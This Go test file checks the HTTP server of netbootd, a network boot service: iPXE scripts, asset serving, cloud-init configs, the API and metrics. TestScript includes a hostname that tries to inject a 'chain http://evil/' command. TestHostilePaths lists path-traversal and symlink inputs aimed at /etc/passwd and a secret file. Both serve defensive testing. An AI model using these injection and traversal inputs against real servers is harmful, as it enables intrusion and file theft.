package http

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	nethttp "net/http"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/netbootd/netbootd/control/config"
	"github.com/netbootd/netbootd/control/machines"
	"github.com/netbootd/netbootd/control/profile"
	"github.com/netbootd/netbootd/tests/testrun"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
)

const bootConfig = `
interface: {mode: authoritative}
subnets: [{cidr: 10.10.0.0/24, pools: ["10.10.0.100-10.10.0.199"]}]
reservations:
  - {mac: "52:54:00:00:00:01", ip: 10.10.0.11, hostname: node01, labels: {role: worker}}
  - {mac: "52:54:00:00:00:02", ip: 10.10.0.12, hostname: node02, profile: broken}
profiles:
  - name: worker
    kernel: debian/vmlinuz
    initrds: [debian/initrd.gz]
    args: "console=ttyS0 hostname={{.Hostname}} ds=nocloud-net;s={{.ConfigURL}}/ netbootd.booted={{.BootedURL}}"
    user_data: |
      #cloud-config
      hostname: {{.Hostname}}
  - name: uefi
    kernel: https://mirror.example/linux
    ignition: '{"ignition": {"version": "3.4.0"}}'
  - name: local-disk
    script: |
      echo {{.MAC}} boots from disk
      exit
  - name: broken
    kernel: k
    args: "rack={{.Labels.rack}}"
groups:
  - {name: workers, profile: worker, selector: {labels: {role: worker}}}
  - {name: uefi, profile: uefi, selector: {platform: efi, arch: x86_64}}
  - {name: default, profile: local-disk}
`

const (
	kernelBody = "KERNEL-0123456789abcdefghijklmnopqrstuvwxyz"
	initrdBody = "INITRD-data"
)

type testEnv struct {
	s      *Server
	base   string
	mgmt   string // the management listener's base URL
	reg    *prometheus.Registry
	store  *machines.Store
	assets string
	client *nethttp.Client // nil: nethttp.DefaultClient, from 127.0.0.1
}

// from is e with its requests sent from addr, a loopback address.
func (e *testEnv) from(addr string) *testEnv {
	c := *e
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(addr)}}
	c.client = &nethttp.Client{Transport: &nethttp.Transport{DialContext: d.DialContext, DisableKeepAlives: true}}
	return &c
}

// leased makes DHCP give mac the loopback address addr, and returns e sending from there: the
// machine itself.
func (e *testEnv) leased(mac, addr string) *testEnv {
	e.store.DHCP(mustMAC(mac), netip.MustParseAddr(addr), true, machines.Event{Source: "dhcp", Detail: "ACK"})
	return e.from(addr)
}

// startServer runs a server on 127.0.0.1:0 with the boot configuration and an assets directory.
func startServer(t *testing.T, cfg Config) *testEnv {
	t.Helper()
	e := &testEnv{reg: prometheus.NewRegistry(), assets: t.TempDir()}
	store, err := machines.New(machines.Config{Registerer: e.reg})
	if err != nil {
		t.Fatal(err)
	}
	e.store = store
	for name, body := range map[string]string{"debian/vmlinuz": kernelBody, "debian/initrd.gz": initrdBody, "other.img": "OTHER"} {
		p := filepath.Join(e.assets, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	cfg.Listen = "127.0.0.1:0"
	cfg.Management = "127.0.0.1:0"
	if cfg.Assets == "" {
		cfg.Assets = e.assets
	}
	cfg.Gatherer, cfg.Registerer, cfg.Machines = e.reg, e.reg, e.store
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	e.s = s
	e.base = "http://" + s.Addr().String()
	e.mgmt = "http://" + s.ManagementAddr().String()
	s.SetProfiles(resolver(t, bootConfig, e.base))
	testrun.Run(t, s.Run)
	return e
}

// management is the same server through its management listener.
func (e *testEnv) management() *testEnv {
	m := *e
	m.base = e.mgmt
	return &m
}

func resolver(t *testing.T, yaml, base string) *profile.Resolver {
	t.Helper()
	c, err := config.Parse([]byte(yaml))
	if err != nil {
		t.Fatal(err)
	}
	c.ApplyInterface(netip.MustParseAddr("10.10.0.1"), netip.MustParsePrefix("10.10.0.0/24"))
	if err := c.Validate(); err != nil {
		t.Fatal(err)
	}
	r, err := profile.New(profile.Config{Conf: c, BaseURL: base})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

type response struct {
	code   int
	header nethttp.Header
	body   string
}

func (e *testEnv) do(t *testing.T, method, path string, header map[string]string) response {
	t.Helper()
	req, err := nethttp.NewRequest(method, e.base+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range header {
		req.Header.Set(k, v)
	}
	client := e.client
	if client == nil {
		client = nethttp.DefaultClient
	}
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return response{resp.StatusCode, resp.Header, string(b)}
}

func (e *testEnv) get(t *testing.T, path string) response { return e.do(t, "GET", path, nil) }

// raw sends path exactly as written, with no client-side cleaning or escaping.
func (e *testEnv) raw(t *testing.T, path string) response {
	t.Helper()
	c, err := net.Dial("tcp", e.s.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := io.WriteString(c, "GET "+path+" HTTP/1.1\r\nHost: test\r\nConnection: close\r\n\r\n"); err != nil {
		t.Fatal(err)
	}
	resp, err := nethttp.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return response{resp.StatusCode, resp.Header, string(b)}
}

func TestChainScript(t *testing.T) {
	const script = "#!ipxe\nchain --replace --autofree BASE/ipxe/script?mac=${netX/mac:hexhyp}&uuid=${uuid}&arch=${buildarch}&platform=${platform}&serial=${serial:uristring}&hostname=${hostname:uristring}\n"
	tests := []struct {
		name, base string // base: the profiles' base URL; "" no profiles, "HOST" the listener's
		want       string
	}{
		{"profiles' base URL", "http://10.10.0.1:8080", "http://10.10.0.1:8080"},
		{"profiles' base URL behind NAT", "http://203.0.113.7:8443", "http://203.0.113.7:8443"},
		{"no profiles: from Host", "", "HOST"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := startServer(t, Config{})
			e.s.SetProfiles(nil)
			if tt.base != "" {
				e.s.SetProfiles(resolver(t, bootConfig, tt.base))
			}
			r := e.get(t, "/ipxe/boot.ipxe")
			want := strings.ReplaceAll(script, "BASE", strings.ReplaceAll(tt.want, "HOST", e.base))
			if r.code != 200 || r.body != want {
				t.Errorf("boot.ipxe = %d\n%s\nwant\n%s", r.code, r.body, want)
			}
			if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
				t.Errorf("Content-Type %q", ct)
			}
		})
	}
}

func TestScript(t *testing.T) {
	e := startServer(t, Config{})
	q := "&uuid=4c4c4544-0042&arch=x86_64&platform=efi&serial=SN%201&hostname=ipxe-name"
	tests := []struct {
		name     string
		query    string
		profiles string // "" the boot configuration, "none" nil, else this configuration
		code     int
		want     string // exact body, or
		contains []string
		mac      string // timeline to check
		profile  string
		phase    string
	}{
		{name: "reservation labels select group", query: "mac=52-54-00-00-00-01&arch=x86_64&platform=pcbios&hostname=ipxe-name", code: 200,
			want: "#!ipxe\nkernel BASE/assets/debian/vmlinuz initrd=initrd.gz console=ttyS0 hostname=node01 ds=nocloud-net;s=BASE/configs/52-54-00-00-00-01/ netbootd.booted=BASE/booted/52-54-00-00-00-01\n" +
				"initrd --name initrd.gz BASE/assets/debian/initrd.gz\nboot\n",
			mac: "52:54:00:00:00:01", profile: "worker", phase: machines.PhaseScript},
		{name: "group by platform and arch", query: "mac=52:54:00:00:00:0a" + q, code: 200,
			want: "#!ipxe\nkernel https://mirror.example/linux\nboot\n",
			mac:  "52:54:00:00:00:0a", profile: "uefi", phase: machines.PhaseScript},
		{name: "default group script", query: "mac=52:54:00:00:00:0b&arch=i386&platform=pcbios", code: 200,
			want: "#!ipxe\necho 52:54:00:00:00:0b boots from disk\nexit\n",
			mac:  "52:54:00:00:00:0b", profile: "local-disk", phase: machines.PhaseScript},
		{name: "no profiles", query: "mac=52:54:00:00:00:0c", profiles: "none", code: 200,
			want: "#!ipxe\necho netbootd: 52:54:00:00:00:0c: no profiles configured\nexit\n",
			mac:  "52:54:00:00:00:0c", phase: machines.PhaseScript},
		{name: "template error", query: "mac=52:54:00:00:00:02", code: 500,
			contains: []string{"echo netbootd: profile broken:", "rack", "\nexit 1\n"},
			mac:      "52:54:00:00:00:02", profile: "broken", phase: machines.PhaseDHCP},
		{name: "bad mac", query: "mac=zz-54-00", code: 400, want: "#!ipxe\necho netbootd: bad mac \"zz-54-00\"\nexit 1\n"},
		{name: "no mac", query: "", code: 400, want: "#!ipxe\necho netbootd: no mac\nexit 1\n"},
		{name: "hostile facts stay on the echo line", query: "mac=52:54:00:00:00:0d&hostname=a%0Achain%20http://evil/%20%23x%20%26%26%20${x}%20||%20%3B",
			profiles: "interface: {mode: proxy}\nprofiles: [{name: w, kernel: k}]\n", code: 200,
			want: "#!ipxe\necho netbootd: 52:54:00:00:00:0d: no group matches and no default group: mac 52:54:00:00:00:0d, " +
				"hostname a chain http://evil/ '#x' '&&' $ {x} '||' ;, no reservation\nexit\n"},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := e
			if q, _ := url.ParseQuery(tt.query); q.Get("mac") != "" && !strings.HasPrefix(q.Get("mac"), "zz") {
				c = e.leased(q.Get("mac"), fmt.Sprintf("127.0.1.%d", i+1)) // the machine itself asks
			}
			switch tt.profiles {
			case "":
			case "none":
				e.s.SetProfiles(nil)
				defer e.s.SetProfiles(resolver(t, bootConfig, e.base))
			default:
				e.s.SetProfiles(resolver(t, tt.profiles, e.base))
				defer e.s.SetProfiles(resolver(t, bootConfig, e.base))
			}
			r := c.get(t, "/ipxe/script?"+tt.query)
			if r.code != tt.code {
				t.Errorf("code %d, want %d", r.code, tt.code)
			}
			if !strings.HasPrefix(r.body, "#!ipxe\n") {
				t.Errorf("body is not an iPXE script:\n%s", r.body)
			}
			if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
				t.Errorf("Content-Type %q", ct)
			}
			if want := strings.ReplaceAll(tt.want, "BASE", e.base); tt.want != "" && r.body != want {
				t.Errorf("body (-want +got):\n%s", cmp.Diff(want, r.body))
			}
			for _, c := range tt.contains {
				if !strings.Contains(r.body, c) {
					t.Errorf("body lacks %q:\n%s", c, r.body)
				}
			}
			if tt.mac == "" {
				return
			}
			m, ok := e.store.Get(mustMAC(tt.mac))
			if !ok {
				t.Fatal("machine not recorded")
			}
			if m.Profile != tt.profile || m.ProfileReason == "" || m.Phase != tt.phase {
				t.Errorf("machine: profile %q (%q), phase %q; want %q, phase %q", m.Profile, m.ProfileReason, m.Phase, tt.profile, tt.phase)
			}
			if n := len(m.Events); n == 0 || m.Events[n-1].Source != "http" || !strings.HasPrefix(m.Events[n-1].Detail, "GET /ipxe/script: ") {
				t.Errorf("events: %+v", m.Events)
			}
		})
	}
	m, _ := e.store.Get(mustMAC("52:54:00:00:00:01"))
	if m.Hostname != "node01" || !strings.Contains(m.ProfileReason, `group "workers"`) {
		t.Errorf("explained: %+v", m)
	}
}

func mustMAC(s string) net.HardwareAddr {
	m, err := net.ParseMAC(s)
	if err != nil {
		panic(err)
	}
	return m
}

func TestAssets(t *testing.T) {
	e := startServer(t, Config{})
	full := e.get(t, "/assets/debian/vmlinuz")
	if full.code != 200 || full.body != kernelBody {
		t.Fatalf("GET = %d %q", full.code, full.body)
	}
	lastMod := full.header.Get("Last-Modified")
	tests := []struct {
		name   string
		method string
		path   string
		header map[string]string
		code   int
		body   string
		check  map[string]string // response headers
	}{
		{"range", "GET", "/assets/debian/vmlinuz", map[string]string{"Range": "bytes=7-16"}, 206, kernelBody[7:17],
			map[string]string{"Content-Range": "bytes 7-16/43", "Content-Length": "10"}},
		{"open range", "GET", "/assets/debian/vmlinuz", map[string]string{"Range": "bytes=40-"}, 206, kernelBody[40:],
			map[string]string{"Content-Range": "bytes 40-42/43"}},
		{"unsatisfiable range", "GET", "/assets/debian/vmlinuz", map[string]string{"Range": "bytes=100-"}, 416, "", nil},
		{"head", "HEAD", "/assets/debian/vmlinuz", nil, 200, "", map[string]string{"Content-Length": "43", "Accept-Ranges": "bytes"}},
		{"not modified", "GET", "/assets/debian/vmlinuz", map[string]string{"If-Modified-Since": lastMod}, 304, "", nil},
		{"modified", "GET", "/assets/debian/vmlinuz", map[string]string{"If-Modified-Since": "Mon, 02 Jan 2006 15:04:05 GMT"}, 200, kernelBody, nil},
		{"missing", "GET", "/assets/debian/nope", nil, 404, "", nil},
		{"directory", "GET", "/assets/debian", nil, 404, "", nil},
		{"directory slash", "GET", "/assets/debian/", nil, 400, "", nil},
		{"root", "GET", "/assets/", nil, 400, "", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := e.do(t, tt.method, tt.path, tt.header)
			if r.code != tt.code {
				t.Errorf("code %d, want %d (%q)", r.code, tt.code, r.body)
			}
			if (tt.code == 200 || tt.code == 206 || tt.method == "HEAD") && r.body != tt.body {
				t.Errorf("body %q, want %q", r.body, tt.body)
			}
			if tt.code >= 400 && strings.Contains(r.body, "KERNEL") {
				t.Errorf("error with file content: %q", r.body)
			}
			for k, v := range tt.check {
				if got := r.header.Get(k); got != v {
					t.Errorf("%s: %q, want %q", k, got, v)
				}
			}
		})
	}
}

func TestHostilePaths(t *testing.T) {
	e := startServer(t, Config{IPXEDir: t.TempDir()})
	outside := filepath.Join(filepath.Dir(e.assets), "secret.efi")
	if err := os.WriteFile(outside, []byte("SECRET"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(outside) })
	for link, target := range map[string]string{"escape": "../secret.efi", "abs": "/etc/passwd", "debian/up": "../../secret.efi",
		"inside": "debian/vmlinuz"} {
		if err := os.Symlink(target, filepath.Join(e.assets, link)); err != nil {
			t.Fatal(err)
		}
	}
	// Only the directory's own entries may link out (see TestIPXEBinaries), not deeper ones.
	if err := os.Mkdir(filepath.Join(e.s.cfg.IPXEDir, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(e.s.cfg.IPXEDir, "sub", "evil.efi")); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{
		"/assets/../secret.efi",
		"/assets/%2e%2e/secret.efi",
		"/assets/%2E%2E%2Fsecret.efi",
		"/assets/debian/../../secret.efi",
		"/assets/debian/%2e%2e/%2e%2e/secret.efi",
		"/assets/..%5csecret.efi",
		"/assets/%2Fetc%2Fpasswd",
		"/assets//etc/passwd",
		"/assets/./debian/vmlinuz",
		"/assets/a%00b",
		"/assets/escape",
		"/assets/abs",
		"/assets/debian/up",
		"/ipxe/..%2fsecret.efi",
		"/ipxe/%2e%2e",
		"/ipxe/sub%2Fevil.efi",
		"/ipxe/sub/evil.efi",
		"/ipxe/../assets/debian/vmlinuz",
	} {
		t.Run(p, func(t *testing.T) {
			r := e.raw(t, p)
			if r.code != 400 && r.code != 404 {
				t.Errorf("code %d, want 400 or 404", r.code)
			}
			if strings.Contains(r.body, "SECRET") || strings.Contains(r.body, "root:") || strings.Contains(r.body, "KERNEL") {
				t.Errorf("file content leaked: %q", r.body)
			}
		})
	}
	if r := e.raw(t, "/assets/inside"); r.code != 200 || r.body != kernelBody {
		t.Errorf("symlink inside the root: %d %q", r.code, r.body)
	}
}

func TestIPXEBinaries(t *testing.T) {
	dir := t.TempDir()
	for _, n := range []string{"ipxe.efi", "undionly.kpxe", "readme.txt"} {
		if err := os.WriteFile(filepath.Join(dir, n), []byte("BIN-"+n), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// Debian's ipxe package links ipxe.efi to /boot/ipxe.efi: such a link is followed.
	boot := t.TempDir()
	if err := os.WriteFile(filepath.Join(boot, "ipxe.efi"), []byte("BIN-boot"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(boot, "ipxe.efi"), filepath.Join(dir, "linked.efi")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(boot, filepath.Join(dir, "dir.efi")); err != nil {
		t.Fatal(err)
	}
	e := startServer(t, Config{IPXEDir: dir})
	tests := []struct {
		method, path string
		code         int
		body         string
	}{
		{"GET", "/ipxe/ipxe.efi", 200, "BIN-ipxe.efi"},
		{"HEAD", "/ipxe/undionly.kpxe", 200, ""},
		{"GET", "/ipxe/readme.txt", 404, ""},
		{"GET", "/ipxe/snp.efi", 404, ""},
		{"GET", "/ipxe/linked.efi", 200, "BIN-boot"},
		{"GET", "/ipxe/dir.efi", 404, ""},
		{"GET", "/ipxe/dir.efi%2Fipxe.efi", 404, ""},
	}
	for _, tt := range tests {
		r := e.do(t, tt.method, tt.path, nil)
		if r.code != tt.code || (tt.code == 200 && r.body != tt.body) {
			t.Errorf("%s %s = %d %q, want %d %q", tt.method, tt.path, r.code, r.body, tt.code, tt.body)
		}
	}
}

func TestTimeline(t *testing.T) {
	e := startServer(t, Config{})
	worker := mustMAC("52:54:00:00:00:01")
	// DHCP gave the worker this test's address: downloads without ?mac= are attributed by it.
	e.store.DHCP(worker, netip.MustParseAddr("127.0.0.1"), true, machines.Event{Source: "dhcp", Detail: "ACK"})
	if r := e.get(t, "/ipxe/script?mac=52-54-00-00-00-01&arch=x86_64&platform=pcbios"); r.code != 200 {
		t.Fatalf("script: %d", r.code)
	}
	e.do(t, "HEAD", "/assets/debian/vmlinuz", nil)
	e.get(t, "/assets/debian/vmlinuz")
	e.do(t, "GET", "/assets/debian/initrd.gz", map[string]string{"Range": "bytes=0-3"})
	e.get(t, "/assets/other.img")
	e.get(t, "/assets/missing")

	m, _ := e.store.Get(worker)
	type ev struct {
		Phase, Detail string
		Bytes         int64
	}
	var got []ev
	for _, x := range m.Events {
		got = append(got, ev{x.Phase, x.Detail, x.Bytes})
	}
	want := []ev{
		{machines.PhaseDHCP, "ACK", 0},
		{machines.PhaseScript, "GET /ipxe/script: profile worker", 0},
		{"", "HEAD /assets/debian/vmlinuz: 200 (kernel)", 0},
		{machines.PhaseKernel, "GET /assets/debian/vmlinuz: 200 (kernel)", int64(len(kernelBody))},
		{machines.PhaseInitrd, "GET /assets/debian/initrd.gz: 206 (initrd)", 4},
		{"", "GET /assets/other.img: 200", 5},
		{"", "GET /assets/missing: 404", int64(len("404 page not found\n"))},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("events (-want +got):\n%s", d)
	}
	if m.Phase != machines.PhaseInitrd {
		t.Errorf("phase %q", m.Phase)
	}

	// ?mac= from the machine itself wins over the address; the profile is the one the script
	// was rendered from.
	other := mustMAC("52:54:00:00:00:0a")
	self := e.leased("52:54:00:00:00:0a", "127.0.0.2")
	self.get(t, "/ipxe/script?mac=52:54:00:00:00:0a&arch=x86_64&platform=pcbios") // default group: local-disk
	self.get(t, "/assets/debian/vmlinuz?mac=52:54:00:00:00:0a")
	m, _ = e.store.Get(other)
	if last := m.Events[len(m.Events)-1]; last.Phase != "" || last.Detail != "GET /assets/debian/vmlinuz: 200" || last.Bytes != int64(len(kernelBody)) {
		t.Errorf("other machine's download: %+v", last)
	}
}

func TestConfigs(t *testing.T) {
	e := startServer(t, Config{})
	// The uefi group needs platform and arch, which only the script request reports.
	uefi := e.leased("52:54:00:00:00:0a", "127.0.0.3")
	uefi.get(t, "/ipxe/script?mac=52:54:00:00:00:0a&arch=x86_64&platform=efi")
	worker := e.leased("52:54:00:00:00:01", "127.0.0.2")
	tests := []struct {
		from     *testEnv
		path, ct string
		code     int
		body     string
	}{
		{worker, "/configs/52-54-00-00-00-01/user-data", "text/plain; charset=utf-8", 200, "#cloud-config\nhostname: node01\n"},
		{worker, "/configs/user-data?mac=52:54:00:00:00:01", "text/plain; charset=utf-8", 200, "#cloud-config\nhostname: node01\n"},
		{worker, "/configs/user-data", "text/plain; charset=utf-8", 200, "#cloud-config\nhostname: node01\n"}, // by address
		{worker, "/configs/52-54-00-00-00-01/meta-data", "", 404, ""},
		{worker, "/configs/52-54-00-00-00-01/ignition", "", 404, ""},
		{uefi, "/configs/52-54-00-00-00-0a/ignition", "application/json", 200, `{"ignition": {"version": "3.4.0"}}`},
		{worker, "/configs/52-54-00-00-00-01/vendor-data", "", 404, ""},
		{worker, "/configs/zz/user-data", "", 400, ""},
		{e, "/configs/user-data", "", 400, ""}, // no machine at this address
	}
	for _, tt := range tests {
		r := tt.from.get(t, tt.path)
		if r.code != tt.code || (tt.code == 200 && (r.body != tt.body || r.header.Get("Content-Type") != tt.ct)) {
			t.Errorf("%s = %d %q %q; want %d %q %q", tt.path, r.code, r.header.Get("Content-Type"), r.body, tt.code, tt.ct, tt.body)
		}
	}
}

func TestBooted(t *testing.T) {
	e := startServer(t, Config{})
	mac := mustMAC("52:54:00:00:00:01")
	self := e.leased("52:54:00:00:00:01", "127.0.0.2")
	if r := self.get(t, "/booted/52-54-00-00-00-01"); r.code != 200 || r.body != "ok\n" {
		t.Errorf("GET /booted = %d %q", r.code, r.body)
	}
	resp, err := self.client.Post(e.base+"/booted/52:54:00:00:00:01", "text/plain", strings.NewReader("kernel 6.1\nall good"))
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || string(b) != "ok\n" {
		t.Errorf("POST /booted = %d %q", resp.StatusCode, b)
	}
	m, _ := e.store.Get(mac)
	if m.Phase != machines.PhaseBooted || m.Booted.IsZero() {
		t.Errorf("phase %q, booted %v", m.Phase, m.Booted)
	}
	last := m.Events[len(m.Events)-1]
	if last.Source != "callback" || last.Detail != "POST /booted from 127.0.0.2: kernel 6.1 all good" {
		t.Errorf("event %+v", last)
	}
	if r := e.get(t, "/booted/nope"); r.code != 400 {
		t.Errorf("bad mac: %d", r.code)
	}
}

func TestMachineAPI(t *testing.T) {
	e := startServer(t, Config{})
	api := e.management()
	if r := api.get(t, "/api/v1/machines"); r.code != 200 || r.body != "[]\n" {
		t.Errorf("empty list = %d %q", r.code, r.body)
	}
	e.leased("52:54:00:00:00:01", "127.0.0.2").get(t, "/ipxe/script?mac=52:54:00:00:00:01")
	e.leased("52:54:00:00:00:0b", "127.0.0.3").get(t, "/ipxe/script?mac=52:54:00:00:00:0b")
	r := api.get(t, "/api/v1/machines")
	var all []machines.Machine
	if err := json.Unmarshal([]byte(r.body), &all); err != nil || r.header.Get("Content-Type") != "application/json" {
		t.Fatalf("list: %v %q", err, r.body)
	}
	if len(all) != 2 || all[0].MAC != "52:54:00:00:00:01" || all[0].Profile != "worker" || all[1].Profile != "local-disk" {
		t.Errorf("list: %+v", all)
	}
	r = api.get(t, "/api/v1/machines/52-54-00-00-00-01")
	var one machines.Machine
	if err := json.Unmarshal([]byte(r.body), &one); err != nil || one.MAC != "52:54:00:00:00:01" || one.Phase != machines.PhaseScript {
		t.Errorf("one: %v %+v", err, one)
	}
	for path, code := range map[string]int{"/api/v1/machines/52:54:00:00:00:99": 404, "/api/v1/machines/bad": 400} {
		if r := api.get(t, path); r.code != code {
			t.Errorf("%s = %d, want %d", path, r.code, code)
		}
	}
}

func TestMetrics(t *testing.T) {
	e := startServer(t, Config{})
	e.get(t, "/ipxe/boot.ipxe")
	e.leased("52:54:00:00:00:01", "127.0.0.1").get(t, "/ipxe/script?mac=52:54:00:00:00:01")
	e.get(t, "/assets/debian/vmlinuz")
	e.get(t, "/assets/nope")
	e.raw(t, "/assets/../x")
	e.get(t, "/healthz")
	e.management().get(t, "/api/v1/machines")
	r := e.management().get(t, "/metrics")
	for _, want := range []string{
		`netbootd_http_requests_total{code="200",handler="chain"} 1`,
		`netbootd_http_requests_total{code="200",handler="script"} 1`,
		`netbootd_http_requests_total{code="200",handler="assets"} 1`,
		`netbootd_http_requests_total{code="404",handler="assets"} 1`,
		`netbootd_http_requests_total{code="400",handler="other"} 1`,
		`netbootd_http_requests_total{code="200",handler="health"} 1`,
		`netbootd_http_requests_total{code="200",handler="api"} 1`,
		`netbootd_http_response_bytes_total{handler="assets"} 62`, // 43 + "404 page not found\n"
		`netbootd_http_request_duration_seconds_count{handler="script"} 1`,
		`netbootd_http_active_requests 1`, // this scrape
		`netbootd_boot_machines{phase="kernel"} 1`,
	} {
		if !strings.Contains(r.body, want+"\n") {
			t.Errorf("metrics lack %s", want)
		}
	}
	// Only route names label the metrics, never paths.
	if strings.Contains(r.body, `handler="/`) {
		t.Error("a path labels a metric")
	}
	problems, err := testutil.GatherAndLint(e.reg)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range problems {
		t.Errorf("promlint: %s: %s", p.Metric, p.Text)
	}
}

func TestNewValidates(t *testing.T) {
	reg := prometheus.NewRegistry()
	tests := []struct {
		name string
		cfg  Config
	}{
		{"negative cap", Config{MaxDownloads: -1}},
	}
	for _, tt := range tests {
		tt.cfg.Listen, tt.cfg.Gatherer = "127.0.0.1:0", reg
		if s, err := New(tt.cfg); err == nil {
			s.ln.Close()
			t.Errorf("%s: accepted", tt.name)
		}
	}
	// The default iPXE directory may be missing: the package is optional.
	s, err := New(Config{Listen: "127.0.0.1:0", Gatherer: reg, Registerer: reg})
	if err != nil {
		t.Fatal(err)
	}
	s.ln.Close()
	if s.cfg.IPXEDir != DefaultIPXEDir || s.cfg.MaxDownloads != DefaultMaxDownloads {
		t.Errorf("defaults: %+v", s.cfg)
	}
	if _, err := New(Config{Listen: "127.0.0.1:0", Gatherer: reg, Registerer: reg}); err == nil {
		t.Error("registering the metrics twice: no error")
	}
}

// readerFromWriter is a ResponseWriter that, like net/http's, can take a file with ReadFrom.
type readerFromWriter struct {
	nethttp.ResponseWriter
	readFrom int64
}

func (w *readerFromWriter) ReadFrom(src io.Reader) (int64, error) {
	n, err := io.Copy(io.Discard, src)
	w.readFrom += n
	return n, err
}

// The recorder must hand files to the connection's ReadFrom (sendfile), not copy them itself.
func TestRecorderKeepsReaderFrom(t *testing.T) {
	dir := t.TempDir()
	body := strings.Repeat("x", 4096)
	if err := os.WriteFile(filepath.Join(dir, "f"), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(filepath.Join(dir, "f"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	inner := &readerFromWriter{ResponseWriter: newHeaderOnly()}
	rec := &recorder{ResponseWriter: inner}
	req, _ := nethttp.NewRequest("GET", "/f", nil)
	nethttp.ServeContent(rec, req, "f", time.Now(), f)
	if inner.readFrom != int64(len(body)) || rec.bytes != int64(len(body)) || rec.Status() != 200 {
		t.Errorf("ReadFrom got %d bytes, recorder counted %d, status %d; want %d via ReadFrom", inner.readFrom, rec.bytes, rec.Status(), len(body))
	}
	if nethttp.NewResponseController(rec).Flush() != nil {
		t.Error("ResponseController cannot reach the writer")
	}
}

type headerOnly struct {
	h nethttp.Header
}

func newHeaderOnly() *headerOnly                  { return &headerOnly{h: nethttp.Header{}} }
func (w *headerOnly) Header() nethttp.Header      { return w.h }
func (w *headerOnly) Write(b []byte) (int, error) { return len(b), nil }
func (w *headerOnly) WriteHeader(int)             {}
func (w *headerOnly) Flush()                      {}

// A file past the sniffing buffer goes out through the connection's ReadFrom (sendfile on
// Linux); the timeline and the metrics count every byte.
func TestLargeFile(t *testing.T) {
	e := startServer(t, Config{})
	big := strings.Repeat("0123456789abcdef", 1<<16) // 1 MiB
	if err := os.WriteFile(filepath.Join(e.assets, "big.img"), []byte(big), 0o644); err != nil {
		t.Fatal(err)
	}
	r := e.leased("52:54:00:00:00:01", "127.0.0.2").get(t, "/assets/big.img?mac=52:54:00:00:00:01")
	if r.code != 200 || r.body != big {
		t.Fatalf("GET big.img = %d, %d bytes", r.code, len(r.body))
	}
	m, _ := e.store.Get(mustMAC("52:54:00:00:00:01"))
	if last := m.Events[len(m.Events)-1]; last.Bytes != int64(len(big)) {
		t.Errorf("recorded %d bytes, want %d", last.Bytes, len(big))
	}
}
